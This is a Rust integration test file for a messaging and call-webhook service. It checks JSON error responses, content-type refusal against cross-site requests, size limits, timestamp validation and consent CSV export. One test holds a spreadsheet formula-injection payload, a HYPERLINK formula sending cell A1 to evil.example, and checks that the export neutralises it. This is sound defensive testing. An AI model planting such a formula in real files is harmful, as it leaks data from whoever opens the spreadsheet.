//! Every error from Ringback's own routes has the JSON error shape, JSON endpoints refuse
//! bodies that are not declared JSON (cross-site requests), the generic call webhook refuses
//! out-of-range timestamps, and the consent CSV export is neutralised and streamed whole.

use reqwest::Method;
use serde_json::{Value, json};

use crate::support::*;

/// One request and the error it must get.
struct Case {
    method: Method,
    path: &'static str,
    content_type: Option<&'static str>,
    body: Vec<u8>,
    status: u16,
    code: &'static str,
}

fn case(
    method: Method,
    path: &'static str,
    content_type: Option<&'static str>,
    body: impl Into<Vec<u8>>,
    status: u16,
    code: &'static str,
) -> Case {
    Case {
        method,
        path,
        content_type,
        body: body.into(),
        status,
        code,
    }
}

/// Sends a case; asserts the status, then the content type, then the code.
async fn check(app: &TestApp, c: &Case) -> reqwest::Response {
    let mut req = app
        .http
        .request(c.method.clone(), format!("{}{}", app.base, c.path))
        .body(c.body.clone());
    if let Some(ct) = c.content_type {
        req = req.header("content-type", ct);
    }
    let r = req.send().await.expect("server reachable");
    let what = format!("{} {} ({:?})", c.method, c.path, c.content_type);
    assert_eq!(r.status().as_u16(), c.status, "{what}");
    let ct = r.headers()["content-type"].to_str().unwrap().to_string();
    assert!(
        ct.starts_with("application/json"),
        "{what}: content-type {ct}"
    );
    r
}

#[tokio::test]
async fn errors_of_our_routes_are_json_with_a_code() {
    let app = spawn_app().await;
    let message = serde_json::to_vec(&json!({"to": "+919800500001", "text": "hi"})).unwrap();
    let too_big = vec![b' '; 70_000]; // server.max_body_bytes is 65536 in tests
    let cases = [
        // Cross-site: a browser form or fetch without preflight can send these.
        case(
            Method::POST,
            "/api/v1/messages",
            Some("text/plain"),
            message.clone(),
            415,
            "unsupported_media_type",
        ),
        case(
            Method::POST,
            "/api/v1/messages",
            None,
            message.clone(),
            415,
            "unsupported_media_type",
        ),
        case(
            Method::POST,
            "/api/v1/messages",
            Some("application/x-www-form-urlencoded"),
            "to=%2B1",
            415,
            "unsupported_media_type",
        ),
        case(
            Method::POST,
            "/api/v1/consents",
            Some("text/plain;charset=UTF-8"),
            "{}",
            415,
            "unsupported_media_type",
        ),
        case(
            Method::POST,
            "/api/v1/calls",
            Some("multipart/form-data; boundary=x"),
            "{}",
            415,
            "unsupported_media_type",
        ),
        case(
            Method::POST,
            "/api/v1/calls/permission-requests",
            Some("text/plain"),
            "{}",
            415,
            "unsupported_media_type",
        ),
        // JSON with parameters or a +json subtype gets past the check (and fails on content).
        case(
            Method::POST,
            "/api/v1/messages",
            Some("application/json; charset=utf-8"),
            "{}",
            400,
            "malformed",
        ),
        case(
            Method::POST,
            "/api/v1/consents",
            Some("application/merge-patch+json"),
            "{}",
            400,
            "malformed",
        ),
        // Over the body limit.
        case(
            Method::POST,
            "/api/v1/messages",
            Some("application/json"),
            too_big.clone(),
            413,
            "payload_too_large",
        ),
        case(
            Method::POST,
            "/webhooks/calls",
            Some("application/json"),
            too_big.clone(),
            413,
            "payload_too_large",
        ),
        case(
            Method::POST,
            "/webhooks/whatsapp",
            Some("application/json"),
            too_big,
            413,
            "payload_too_large",
        ),
        // Wrong method.
        case(
            Method::DELETE,
            "/api/v1/messages",
            None,
            "",
            405,
            "method_not_allowed",
        ),
        case(
            Method::PUT,
            "/webhooks/calls",
            None,
            "",
            405,
            "method_not_allowed",
        ),
        case(
            Method::GET,
            "/webhooks/twilio/voice",
            None,
            "",
            405,
            "method_not_allowed",
        ),
        // Bad query strings.
        case(
            Method::GET,
            "/api/v1/messages?limit=-1",
            None,
            "",
            400,
            "invalid_query",
        ),
        case(
            Method::GET,
            "/api/v1/calls?limit=many",
            None,
            "",
            400,
            "invalid_query",
        ),
        case(
            Method::GET,
            "/api/v1/calls/outbound?limit=99999999999",
            None,
            "",
            400,
            "invalid_query",
        ),
        case(
            Method::GET,
            "/api/v1/consents?format=xlsx",
            None,
            "",
            400,
            "invalid_query",
        ),
        // Unknown routes.
        case(Method::GET, "/nothing-here", None, "", 404, "not_found"),
        case(
            Method::POST,
            "/api/v1/unknown",
            Some("application/json"),
            "{}",
            404,
            "not_found",
        ),
    ];
    for c in &cases {
        let r = check(&app, c).await;
        let allow = r.headers().get("allow").cloned();
        let body: Value = r.json().await.unwrap();
        assert_eq!(
            body["error"]["code"], c.code,
            "{} {}: {body}",
            c.method, c.path
        );
        assert!(
            body["error"]["message"]
                .as_str()
                .is_some_and(|m| !m.is_empty()),
            "{} {}: {body}",
            c.method,
            c.path
        );
        if c.status == 405 {
            assert!(allow.is_some(), "{} {}: no Allow header", c.method, c.path);
        }
    }
    // None of the refused sends was queued.
    let r = app
        .http
        .get(format!("{}/api/v1/messages", app.base))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    let listed: Value = r.json().await.unwrap();
    assert_eq!(listed["data"], json!([]));
}

#[tokio::test]
async fn provider_acks_on_success_keep_their_formats() {
    let app = spawn_app().await;
    let r = app
        .twilio(
            "/webhooks/twilio/voice",
            &[
                ("CallSid", "CA-ack"),
                ("From", "+14155550123"),
                ("To", BUSINESS),
            ],
        )
        .await;
    assert_eq!(r.status(), 200);
    assert_eq!(r.headers()["content-type"], "text/xml");
    let r = app
        .http
        .get(format!(
            "{}/webhooks/whatsapp?hub.mode=subscribe&hub.verify_token=test-verify&hub.challenge=42",
            app.base
        ))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    assert_eq!(r.text().await.unwrap(), "42");
}

#[tokio::test]
async fn out_of_range_pbx_timestamps_are_refused_with_the_unit() {
    let app = spawn_app().await;
    let now = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap();
    for (id, timestamp, hint) in [
        ("ts-max", json!(i64::MAX), "seconds since the Unix epoch"),
        ("ts-min", json!(i64::MIN), "seconds since the Unix epoch"),
        (
            "ts-ms",
            json!(now.as_millis() as i64),
            "looks like milliseconds",
        ),
    ] {
        let r = app
            .call(json!({"call_id": id, "from": "+919800500002", "to": BUSINESS, "status": "no-answer", "timestamp": timestamp}))
            .await;
        assert_eq!(r.status(), 400, "{id}");
        let body: Value = r.json().await.unwrap();
        assert_eq!(body["error"]["code"], "malformed", "{id}: {body}");
        let message = body["error"]["message"].as_str().unwrap();
        assert!(message.contains(hint), "{id}: {message}");
    }
    // A timestamp in seconds is the call's time.
    let at = now.as_secs() as i64 - 120;
    let r = app
        .call(json!({"call_id": "ts-ok", "from": "+919800500002", "to": BUSINESS, "status": "no-answer", "timestamp": at}))
        .await;
    assert_eq!(r.status(), 202);
    let call = app.decided_call("ts-ok").await;
    assert_eq!(call["occurred_at"], json!(at * 1000), "{call}");
    // The refused events left nothing behind.
    let calls = app.calls().await;
    assert!(
        calls.iter().all(|c| c["provider_call_id"] == "ts-ok"),
        "{calls:?}"
    );
}

fn parse_csv(text: &str) -> Vec<csv::StringRecord> {
    csv::Reader::from_reader(text.as_bytes())
        .records()
        .map(|r| r.expect("valid CSV"))
        .collect()
}

async fn export(app: &TestApp) -> String {
    let r = app
        .http
        .get(format!("{}/api/v1/consents?format=csv", app.base))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    assert_eq!(r.headers()["content-type"], "text/csv; charset=utf-8");
    r.text().await.unwrap()
}

#[tokio::test]
async fn consent_csv_neutralises_formulas() {
    let app = spawn_app().await;
    let evidence = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
    let r = app
        .http
        .post(format!("{}/api/v1/consents", app.base))
        .json(&json!({"to": "+919800500003", "action": "opt_in", "evidence": evidence}))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 201);
    let rows = parse_csv(&export(&app).await);
    assert_eq!(rows.len(), 1);
    assert_eq!(&rows[0][8], format!("'{evidence}"));
    assert_eq!(&rows[0][2], "919800500003");
}

#[tokio::test]
async fn consent_csv_exports_a_ledger_bigger_than_a_page_whole_and_in_order() {
    use ringback::consent::{Action, Category, Record};
    let app = spawn_app().await;
    let store = app.running.as_ref().unwrap().store.clone();
    let n = 1_234; // two full pages of 500 and a partial one
    for i in 0..n {
        let wa = format!("9198005{i:05}");
        store
            .record_consent(&Record {
                sender_id: PNID.into(),
                subject: wa.clone(),
                wa_id: Some(wa),
                user_id: None,
                category: Category::All,
                action: if i % 2 == 0 {
                    Action::OptIn
                } else {
                    Action::OptOut
                },
                source: "import".into(),
                evidence: format!("row {i}"),
                at: 1_767_225_600_000 + i,
            })
            .await
            .unwrap();
    }
    let rows = parse_csv(&export(&app).await);
    assert_eq!(rows.len(), n as usize);
    for (i, row) in rows.iter().enumerate() {
        assert_eq!(&row[8], format!("row {i}"));
    }
}
